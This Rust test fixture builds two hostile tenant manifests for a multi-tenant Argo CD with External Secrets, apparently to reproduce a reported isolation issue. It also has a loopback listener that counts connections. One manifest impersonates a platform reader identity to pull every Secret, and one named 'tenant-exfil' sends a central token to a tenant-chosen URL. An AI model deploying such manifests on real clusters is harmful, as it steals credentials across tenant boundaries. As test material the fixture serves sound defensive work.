//! The two tenant apps of issue 27, as a tenant of a multi-tenant Argo CD would write
//! them, and a loopback listener that counts the connections made to it.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// An app whose own ClusterSecretStore names the platform's reader identity
/// (`reader` in `central`), and an ExternalSecret taking every Secret it can see.
pub fn app_naming_the_platform_reader(central: &str, reader: &str) -> String {
    format!(
        "apiVersion: external-secrets.io/v1\nkind: ClusterSecretStore\nmetadata: {{name: tenant-reader}}\nspec:\n  provider:\n    kubernetes:\n      remoteNamespace: {central}\n      auth: {{serviceAccount: {{name: {reader}, namespace: {central}}}}}\n---\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {{name: everything}}\nspec:\n  secretStoreRef: {{kind: ClusterSecretStore, name: tenant-reader}}\n  target: {{name: everything}}\n  dataFrom: [{{find: {{name: {{regexp: \".*\"}}}}}}]\n"
    )
}

/// An app whose own ClusterSecretStore sends the token in `central`'s Secret `secret`
/// to `url` (the tenant's server, with the tenant's CA).
pub fn app_sending_a_token_to(url: &str, ca_pem: &str, central: &str, secret: &str) -> String {
    use base64::Engine as _;
    let ca = base64::engine::general_purpose::STANDARD.encode(ca_pem);
    format!(
        "apiVersion: external-secrets.io/v1\nkind: ClusterSecretStore\nmetadata: {{name: tenant-exfil}}\nspec:\n  provider:\n    kubernetes:\n      remoteNamespace: anything\n      server: {{url: \"{url}\", caBundle: {ca}}}\n      auth: {{token: {{bearerToken: {{name: {secret}, namespace: {central}, key: token}}}}}}\n---\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {{name: exfil}}\nspec:\n  secretStoreRef: {{kind: ClusterSecretStore, name: tenant-exfil}}\n  target: {{name: exfil}}\n  dataFrom: [{{find: {{name: {{regexp: \".*\"}}}}}}]\n"
    )
}

/// A TCP listener on loopback that accepts and counts every connection, and answers none.
pub struct Listener {
    /// Its port on 127.0.0.1.
    pub port: u16,
    count: Arc<AtomicUsize>,
}

impl Listener {
    pub fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let count = Arc::new(AtomicUsize::new(0));
        let counted = count.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        Listener { port, count }
    }

    /// `https://127.0.0.1:<port>`.
    pub fn url(&self) -> String {
        format!("https://127.0.0.1:{}", self.port)
    }

    /// Connections accepted so far (after a moment, so one in flight is counted).
    pub fn connections(&self) -> usize {
        std::thread::sleep(std::time::Duration::from_millis(200));
        self.count.load(Ordering::SeqCst)
    }
}
